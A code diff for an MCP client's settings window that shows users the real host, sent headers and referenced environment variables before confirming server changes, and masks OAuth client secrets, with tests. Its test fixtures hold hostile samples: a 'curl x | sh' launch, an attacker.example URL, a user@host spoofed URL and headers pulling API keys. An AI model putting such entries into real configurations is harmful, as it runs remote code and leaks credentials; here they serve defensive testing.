@@ -15,6 +15,12 @@ const SERVERS: &str = "mcpServers";
 /// The entry sections whose values are secrets.
 const SECRET_SECTIONS: [&str; 2] = ["env", "headers"];
 
+/// Whether `key` of `section` of an entry holds a secret: every `env` and `headers` value,
+/// and the sign-in's client secret.
+fn is_secret(section: &str, key: &str) -> bool {
+    SECRET_SECTIONS.contains(&section) || (section == "oauth" && key == "clientSecret")
+}
+
 /// A server the window's edit would start (or connect to) in a way the user has not
 /// confirmed yet: what exactly would run.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -26,14 +32,24 @@ pub enum Launch {
         /// Names only: the values may be secrets.
         env_keys: Vec<String>,
         cwd: Option<String>,
+        /// The variables of Conduit's own environment whose values it would be given
+        /// (`${NAME}` in its `env`).
+        variables: Vec<String>,
     },
     Remote {
         server: String,
         url: String,
+        /// Where Conduit would connect, as a URL parser reads the address.
+        host: String,
+        /// Names only: the values may be secrets.
+        header_names: Vec<String>,
+        /// The variables of Conduit's own environment whose values would be sent
+        /// (`${NAME}` in its URL, headers or sign-in client secret).
+        variables: Vec<String>,
     },
 }
 
-/// The parts of an entry that decide what runs or where Conduit connects.
+/// The parts of an entry that decide what runs, where Conduit connects and what it sends.
 #[derive(Debug, Clone, PartialEq)]
 struct LaunchSpec<'a> {
     kind: Option<&'a Value>,
@@ -42,6 +58,8 @@ struct LaunchSpec<'a> {
     env: Option<&'a Value>,
     cwd: Option<&'a Value>,
     url: Option<&'a Value>,
+    headers: Option<&'a Value>,
+    oauth: Option<&'a Value>,
 }
 
 fn launch_spec(entry: &Value) -> Option<LaunchSpec<'_>> {
@@ -56,6 +74,8 @@ fn launch_spec(entry: &Value) -> Option<LaunchSpec<'_>> {
         env: object.get("env"),
         cwd: object.get("cwd"),
         url: object.get("url"),
+        headers: object.get("headers"),
+        oauth: object.get("oauth"),
     })
 }
 
@@ -69,9 +89,64 @@ fn strings(value: Option<&Value>) -> Vec<String> {
     }
 }
 
+/// The names of an object's keys.
+fn keys(value: Option<&Value>) -> Vec<String> {
+    value
+        .and_then(Value::as_object)
+        .map(|object| object.keys().cloned().collect())
+        .unwrap_or_default()
+}
+
+/// The variables (`${NAME}`) the strings among `values` take, each once, in order.
+fn variables<'a>(values: impl IntoIterator<Item = &'a Value>) -> Vec<String> {
+    let mut names: Vec<String> = Vec::new();
+    for value in values {
+        for name in value
+            .as_str()
+            .map(conduit_mcp::config::variables_in)
+            .unwrap_or_default()
+        {
+            if !names.contains(&name) {
+                names.push(name);
+            }
+        }
+    }
+    names
+}
+
+/// The values of an object, or none.
+fn values(value: Option<&Value>) -> impl Iterator<Item = &Value> {
+    value
+        .and_then(Value::as_object)
+        .into_iter()
+        .flat_map(|o| o.values())
+}
+
+/// Where a URL leads, as a URL parser reads it (what Conduit will connect to), and whether
+/// it names a user before the host (`https://trusted.example@other.example/` leads to
+/// `other.example`).
+fn host_of(url: &str) -> String {
+    match url::Url::parse(url) {
+        Ok(parsed) => {
+            let host = parsed.host_str().unwrap_or("(none)");
+            let place = match parsed.port() {
+                Some(port) => format!("{host}:{port}"),
+                None => host.to_owned(),
+            };
+            if parsed.username().is_empty() && parsed.password().is_none() {
+                place
+            } else {
+                format!("{place} (the address names a user before this host)")
+            }
+        }
+        Err(_) => "not an address Conduit can read".to_owned(),
+    }
+}
+
 /// The servers of `new` that would start or connect differently than in `old`: new
 /// enabled entries, entries enabled again, and entries whose command, arguments,
-/// environment, working folder, type or URL changed. Removals and disabling need nothing.
+/// environment, working folder, type, URL, headers or sign-in settings changed. Removals
+/// and disabling need nothing.
 pub fn launches_to_confirm(old: &Map<String, Value>, new: &Map<String, Value>) -> Vec<Launch> {
     new.iter()
         .filter_map(|(name, entry)| {
@@ -85,17 +160,25 @@ pub fn launches_to_confirm(old: &Map<String, Value>, new: &Map<String, Value>) -
                     server: name.clone(),
                     command,
                     args: strings(spec.args),
-                    env_keys: spec
-                        .env
-                        .and_then(Value::as_object)
-                        .map(|env| env.keys().cloned().collect())
-                        .unwrap_or_default(),
+                    env_keys: keys(spec.env),
                     cwd: text(spec.cwd),
+                    variables: variables(values(spec.env)),
                 },
-                (None, Some(url)) => Launch::Remote {
-                    server: name.clone(),
-                    url,
-                },
+                (None, Some(url)) => {
+                    let client_secret = spec.oauth.and_then(|o| o.get("clientSecret"));
+                    Launch::Remote {
+                        server: name.clone(),
+                        host: host_of(&url),
+                        header_names: keys(spec.headers),
+                        variables: variables(
+                            spec.url
+                                .into_iter()
+                                .chain(values(spec.headers))
+                                .chain(client_secret),
+                        ),
+                        url,
+                    }
+                }
                 // Neither a command nor a URL: the entry cannot start; the file's own
                 // check says why.
                 (None, None) => return None,
@@ -104,11 +187,26 @@ pub fn launches_to_confirm(old: &Map<String, Value>, new: &Map<String, Value>) -
         .collect()
 }
 
+/// Names, each quoted (a name could hold a line break or a comma of its own).
+fn quoted(names: &[String]) -> String {
+    names
+        .iter()
+        .map(|name| format!("{name:?}"))
+        .collect::<Vec<_>>()
+        .join(", ")
+}
+
 /// The question the user answers before the window's edit is written.
 pub fn confirmation_text(launches: &[Launch]) -> String {
     let mut text = String::from(
         "Conduit's settings window asks to run the following. Allow only if you made this change yourself.\n",
     );
+    let given = |variables: &[String]| {
+        format!(
+            "with the values of these variables of Conduit's own environment: {}\n",
+            quoted(variables)
+        )
+    };
     for launch in launches {
         match launch {
             Launch::Stdio {
@@ -117,6 +215,7 @@ pub fn confirmation_text(launches: &[Launch]) -> String {
                 args,
                 env_keys,
                 cwd,
+                variables,
             } => {
                 text.push_str(&format!(
                     "\nServer {server:?} will run the program:\n  {command:?}\n"
@@ -130,15 +229,32 @@ pub fn confirmation_text(launches: &[Launch]) -> String {
                 if !env_keys.is_empty() {
                     text.push_str(&format!(
                         "with the environment variables: {}\n",
-                        env_keys.join(", ")
+                        quoted(env_keys)
                     ));
+                }
+                if !variables.is_empty() {
+                    text.push_str(&given(variables));
                 }
                 if let Some(cwd) = cwd {
                     text.push_str(&format!("in the folder {cwd:?}\n"));
                 }
             }
-            Launch::Remote { server, url } => {
-                text.push_str(&format!("\nServer {server:?} will connect to:\n  {url}\n"));
+            Launch::Remote {
+                server,
+                url,
+                host,
+                header_names,
+                variables,
+            } => {
+                text.push_str(&format!(
+                    "\nServer {server:?} will connect to:\n  {url:?}\nthat is, to the host: {host}\n"
+                ));
+                if !header_names.is_empty() {
+                    text.push_str(&format!("sending the headers: {}\n", quoted(header_names)));
+                }
+                if !variables.is_empty() {
+                    text.push_str(&given(variables));
+                }
             }
         }
     }
@@ -333,7 +449,8 @@ fn unmask_url(url: &str, old: Option<&str>, place: &str) -> Result<String, MaskE
     Ok(restored.join())
 }
 
-/// An entry with its `env` and `headers` values and its URL's secrets masked.
+/// An entry with its `env` and `headers` values, its sign-in client secret and its URL's
+/// secrets masked.
 pub fn mask_entry(entry: &Value) -> Value {
     let mut entry = entry.clone();
     if let Some(object) = entry.as_object_mut() {
@@ -348,6 +465,12 @@ pub fn mask_entry(entry: &Value) -> Value {
                     }
                 }
             }
+        }
+        if let Some(Value::String(secret)) = object
+            .get_mut("oauth")
+            .and_then(|oauth| oauth.get_mut("clientSecret"))
+        {
+            *secret = mask_value(secret).to_owned();
         }
     }
     entry
@@ -374,7 +497,7 @@ pub fn unmask_entry(server: &str, entry: Value, old: Option<&Value>) -> Result<V
         match value {
             Value::String(s) if s == MASKED => {
                 let kept = match path.as_slice() {
-                    [section, key] if SECRET_SECTIONS.contains(&section.as_str()) => old
+                    [section, key] if is_secret(section, key) => old
                         .and_then(|o| o.get(section))
                         .and_then(|s| s.get(key))
                         .and_then(Value::as_str),
@@ -508,11 +631,12 @@ fn json_literal(value: &str) -> String {
     Value::String(value.to_owned()).to_string()
 }
 
-/// `[mcpServers, server, env|headers, key]`: a secret value's place.
+/// `[mcpServers, server, env|headers, key]` or `[mcpServers, server, oauth,
+/// clientSecret]`: a secret value's place.
 fn secret_place(token: &StringToken) -> Option<(&str, &str, &str)> {
     match token.path.as_slice() {
         [root, server, section, key]
-            if !token.is_key && root == SERVERS && SECRET_SECTIONS.contains(&section.as_str()) =>
+            if !token.is_key && root == SERVERS && is_secret(section, key) =>
         {
             Some((server, section, key))
         }
@@ -529,8 +653,8 @@ fn replace_ranges(text: &str, mut replacements: Vec<(std::ops::Range<usize>, Str
     out
 }
 
-/// The file's text with every `env` and `headers` value of its servers masked, the rest
-/// as written.
+/// The file's text with every `env` and `headers` value and sign-in client secret of its
+/// servers masked, the rest as written.
 pub fn mask_text(text: &str) -> String {
     let replacements = string_tokens(text)
         .into_iter()
@@ -606,7 +730,8 @@ pub fn unmask_text(new: &str, old: &str) -> Result<String, MaskError> {
 }
 
 /// Whether two entries run the same command or reach the same URL: only then may a
-/// stored secret carry over from one to the other.
+/// stored secret carry over from one to the other. (New arguments or another folder keep
+/// them: the confirmation shows both, with the variables' names.)
 fn same_target(old: &Value, new: &Value) -> bool {
     old.get("command") == new.get("command") && old.get("url") == new.get("url")
 }
@@ -756,9 +881,9 @@ mod tests {
             "off": {"command": "node", "args": ["x.js"], "disabled": true},
             "gone": {"command": "rm"},
         }));
-        // The same file, reordered and with headers and timeouts changed: nothing to ask.
+        // The same file, reordered and with a timeout changed: nothing to ask.
         let same = servers(json!({
-            "web": {"url": "https://mcp.example.com/mcp", "headers": {"Authorization": "Bearer b"}, "timeout": 5},
+            "web": {"url": "https://mcp.example.com/mcp", "headers": {"Authorization": "Bearer a"}, "timeout": 5},
             "time": {"command": "uvx", "args": ["mcp-server-time"], "env": {"TZ": "UTC"}},
             "off": {"command": "node", "args": ["x.js"], "disabled": true},
         }));
@@ -785,32 +910,39 @@ mod tests {
                     command: "uvx".into(),
                     args: vec!["mcp-server-time".into(), "--evil".into()],
                     env_keys: vec!["TZ".into()],
-                    cwd: None
+                    cwd: None,
+                    variables: vec![],
                 },
                 Launch::Remote {
                     server: "web".into(),
-                    url: "https://attacker.example/mcp".into()
+                    url: "https://attacker.example/mcp".into(),
+                    host: "attacker.example".into(),
+                    header_names: vec![],
+                    variables: vec![],
                 },
                 Launch::Stdio {
                     server: "off".into(),
                     command: "node".into(),
                     args: vec!["x.js".into()],
                     env_keys: vec![],
-                    cwd: None
+                    cwd: None,
+                    variables: vec![],
                 },
                 Launch::Stdio {
                     server: "new".into(),
                     command: "sh".into(),
                     args: vec!["-c".into(), "curl x | sh".into()],
                     env_keys: vec!["TOKEN".into()],
-                    cwd: Some("/tmp".into())
+                    cwd: Some("/tmp".into()),
+                    variables: vec![],
                 },
                 Launch::Stdio {
                     server: "envchange".into(),
                     command: "rm".into(),
                     args: vec![],
                     env_keys: vec![],
-                    cwd: None
+                    cwd: None,
+                    variables: vec![],
                 },
             ]
         );
@@ -826,6 +958,77 @@ mod tests {
         let disabled = servers(json!({"time": {"command": "uvx", "disabled": true}}));
         assert_eq!(launches_to_confirm(&old, &disabled), vec![]);
         assert_eq!(launches_to_confirm(&old, &Map::new()), vec![]);
+    }
+
+    #[test]
+    fn what_an_entry_sends_and_takes_from_conduits_environment_is_asked_about() {
+        let old = servers(json!({
+            "weather": {"url": "https://weather.example/mcp"},
+            "tool": {"command": "npx", "args": ["-y", "tool"]},
+        }));
+        // Only headers added, one taking a provider key from Conduit's environment; only
+        // an environment value taking one; only the sign-in's client secret changed.
+        let new = servers(json!({
+            "weather": {"url": "https://weather.example/mcp",
+                "headers": {"X-Client": "c-${ANTHROPIC_API_KEY}"}},
+            "tool": {"command": "npx", "args": ["-y", "tool"], "env": {"TZ": "${OPENAI_API_KEY}"}},
+            "signed": {"url": "https://${HOST}/mcp", "oauth": {"clientId": "a", "clientSecret": "${CLIENT_SECRET}"}},
+        }));
+        let launches = launches_to_confirm(&old, &new);
+        assert_eq!(launches.len(), 3, "{launches:?}");
+        let text = confirmation_text(&launches);
+        for expected in [
+            "sending the headers: \"X-Client\"",
+            "\"ANTHROPIC_API_KEY\"",
+            "with the environment variables: \"TZ\"",
+            "\"OPENAI_API_KEY\"",
+            "\"HOST\", \"CLIENT_SECRET\"",
+        ] {
+            assert!(text.contains(expected), "{expected} not in: {text}");
+        }
+        let mut signed_in_again = new.clone();
+        signed_in_again["signed"]["oauth"]["clientSecret"] = json!("literal");
+        assert_eq!(launches_to_confirm(&new, &signed_in_again).len(), 1);
+
+        // The host a URL parser reads is shown, whatever the text looks like first.
+        let tricked = servers(json!({
+            "gh": {"url": "https://api.githubcopilot.com@evil.example/mcp"},
+        }));
+        let text = confirmation_text(&launches_to_confirm(&Map::new(), &tricked));
+        assert!(
+            text.contains(
+                "that is, to the host: evil.example (the address names a user before this host)"
+            ),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn a_sign_in_client_secret_is_masked_and_stays_with_its_server() {
+        let stored = json!({"url": "https://mcp.example/mcp",
+            "oauth": {"clientId": "conduit-app", "clientSecret": "s3cret"}});
+        let masked = mask_entry(&stored);
+        assert_eq!(masked["oauth"]["clientSecret"], MASKED);
+        assert_eq!(
+            masked["oauth"]["clientId"], "conduit-app",
+            "an id is no secret"
+        );
+        assert_eq!(
+            unmask_entry("srv", masked.clone(), Some(&stored)).unwrap(),
+            stored
+        );
+        // Pointed at another server, the stored secret does not follow.
+        let mut moved = masked.clone();
+        moved["url"] = json!("https://other.example/mcp");
+        assert!(unmask_entry("srv", moved, Some(&stored)).is_err());
+        // The raw editor's text: masked, and kept on the way back.
+        let file = json!({"mcpServers": {"srv": stored}}).to_string();
+        let text = mask_text(&file);
+        assert!(
+            !text.contains("s3cret") && text.contains("conduit-app"),
+            "{text}"
+        );
+        assert_eq!(unmask_text(&text, &file).unwrap(), file);
     }
 
     #[test]
